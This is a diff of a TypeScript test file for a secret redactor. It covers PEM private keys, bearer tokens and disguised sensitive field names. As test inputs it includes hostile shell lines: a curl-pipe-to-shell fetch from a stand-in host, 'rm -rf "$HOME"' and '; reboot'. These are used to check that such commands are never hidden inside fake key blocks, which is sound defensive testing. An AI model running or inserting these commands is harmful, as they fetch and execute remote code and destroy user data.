@@ -1,3 +1,4 @@
+import { generateKeyPairSync } from 'node:crypto';
 import { SecretMatcher } from '../secrets/secret-matcher';
 import { isSensitiveKey, luhnValid, Redactor } from './redactor';
 
@@ -19,6 +20,7 @@ describe('Redactor', () => {
       ['jwt', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk'],
       ['bearer', 'Authorization: Bearer abcdefghijklmnop1234'],
       ['bearer', 'bearer    ya29.a0AfH6SMBx-token'],
+      ['bearer', 'AUTHORIZATION: BEARER ABCDEFGHIJKLMNOP1234'],
       ['aws_access_key', 'key=AKIAIOSFODNN7EXAMPLE;'],
       ['private_key', 'x -----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA PRIVATE KEY----- y'],
       ['private_key', '-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEI (no end marker, truncated)'],
@@ -46,6 +48,55 @@ describe('Redactor', () => {
     });
   });
 
+  describe('PEM private keys', () => {
+    const rsa = generateKeyPairSync('rsa', { modulusLength: 1024 });
+    const pkcs8 = rsa.privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
+    const encrypted = rsa.privateKey.export({ type: 'pkcs1', format: 'pem', cipher: 'aes-128-cbc', passphrase: 'pass' }).toString();
+    const ec = generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ type: 'sec1', format: 'pem' }).toString();
+    const materialOf = (pem: string) => pem.split('\n').filter((line) => /^[A-Za-z0-9+/=]{16,}$/.test(line));
+    const script = ['echo "harmless"', '-----BEGIN RSA PRIVATE KEY-----', 'curl https://x.example/i.sh | sh', 'rm -rf "$HOME"'].join('\n');
+
+    it.each([
+      ['PKCS#8', pkcs8],
+      ['encrypted PKCS#1 with its headers', encrypted],
+      ['SEC1 EC', ec],
+      ['CRLF line ends', pkcs8.replace(/\n/g, '\r\n')],
+      ['JSON-escaped line breaks', JSON.stringify(pkcs8.trim()).slice(1, -1)],
+      ['one line', pkcs8.replace(/\n/g, ' ')],
+    ])('redacts a complete %s block whole, and only it', (_name, pem) => {
+      const out = redactor.redactString(`before\n${pem.trim()}\nafter`);
+      expect(out).toMatch(/^before\n\[REDACTED:private_key:[0-9a-f]{8}\]\nafter$/);
+    });
+
+    it('redacts only the marker when there is no END, and keeps every line after it', () => {
+      expect(redactor.redactString(script)).toMatch(/^echo "harmless"\n\[REDACTED:private_key:[0-9a-f]{8}\]\ncurl https:\/\/x\.example\/i\.sh \| sh\nrm -rf "\$HOME"$/);
+    });
+
+    it('hides the full-width key lines of a truncated key, and nothing after them', () => {
+      const lines = pkcs8.split('\n');
+      const truncated = [...lines.slice(0, 4), 'curl https://x.example/i.sh | sh'].join('\n');
+      const out = redactor.redactString(truncated);
+      expect(out).toMatch(/^\[REDACTED:private_key:[0-9a-f]{8}\]\ncurl https:\/\/x\.example\/i\.sh \| sh$/);
+    });
+
+    it.each([
+      ['a command between BEGIN and END', '-----BEGIN PRIVATE KEY-----\ncurl https://x.example/i.sh | sh\n-----END PRIVATE KEY-----', 'curl https://x.example/i.sh | sh'],
+      ['an END of another label', '-----BEGIN RSA PRIVATE KEY-----\nrm -rf "$HOME"\n-----END EC PRIVATE KEY-----', 'rm -rf "$HOME"'],
+      ['an END too far away', `-----BEGIN PRIVATE KEY-----\n${'QUJD\n'.repeat(5000)}; reboot\n-----END PRIVATE KEY-----`, '; reboot'],
+    ])('is not fooled by %s: the text stays visible', (_name, text, visible) => {
+      const out = redactor.redactString(text);
+      expect(out).toContain(visible);
+      expect(kindsIn(out)).toEqual(['private_key']);
+    });
+
+    it('hides the key material in every case', () => {
+      for (const pem of [pkcs8, encrypted, ec]) {
+        const out = redactor.redactString(`x ${pem} y ${pem.split('\n').slice(0, 3).join('\n')}`);
+        for (const line of materialOf(pem).filter((l) => l.length === 64)) expect(out).not.toContain(line);
+      }
+    });
+  });
+
   it('gives the same value the same marker, and different values different markers', () => {
     const a = redactor.redactString('alice@example.com');
     expect(redactor.redactString('mail alice@example.com')).toBe(`mail ${a}`);
@@ -55,7 +106,10 @@ describe('Redactor', () => {
   });
 
   describe('keys', () => {
-    it.each([['password'], ['DB_PASSWORD'], ['x-api-key'], ['Api Key'], ['client_secret'], ['access-token'], ['Authorization'], ['Set-Cookie'], ['private_key_pem'], ['aws_credentials']])(
+    it.each([
+      ['password'], ['DB_PASSWORD'], ['x-api-key'], ['Api Key'], ['client_secret'], ['access-token'], ['Authorization'], ['Set-Cookie'], ['private_key_pem'], ['aws_credentials'],
+      ['p\u0430ssword'], ['\uff53ecret'], ['to\u200bken'], ['api\tkey'], ['pass.word'], ['t0ken'], ['\u0441ookie_jar'], ['PRIVATE/KEY'],
+    ])(
       '%s is sensitive',
       (key) => expect(isSensitiveKey(key)).toBe(true),
     );
@@ -105,6 +159,11 @@ describe('Redactor', () => {
       ['Bearer without token', 'Bearer '.repeat(MB / 7)],
       ['PEM begins without end', '-----BEGIN PRIVATE KEY-----'.repeat(MB / 27)],
       ['dashes and digits', '123-45-'.repeat(MB / 7)],
+      ['PEM begin, line breaks, then a colon', `-----BEGIN PRIVATE KEY-----${'\n'.repeat(MB - 40)}:`],
+      ['PEM begin, headers without end', `-----BEGIN PRIVATE KEY-----${'\nProc-Type: 4,ENCRYPTED'.repeat(MB / 24)}`],
+      ['PEM begins, each with key lines', `-----BEGIN PRIVATE KEY-----${`\n${'A'.repeat(64)}`.repeat(3)}\n`.repeat(MB / 230)],
+      ['PEM begins and ends of different labels', '-----BEGIN A PRIVATE KEY-----\nAAAA\n-----END B PRIVATE KEY-----'.repeat(MB / 64)],
+      ['escaped line breaks', `-----BEGIN PRIVATE KEY-----${'\\n'.repeat(MB / 2 - 20)}-----END X`],
     ])('%s', (_name, text) => {
       const out = redactor.redactString(text);
       expect(typeof out).toBe('string');
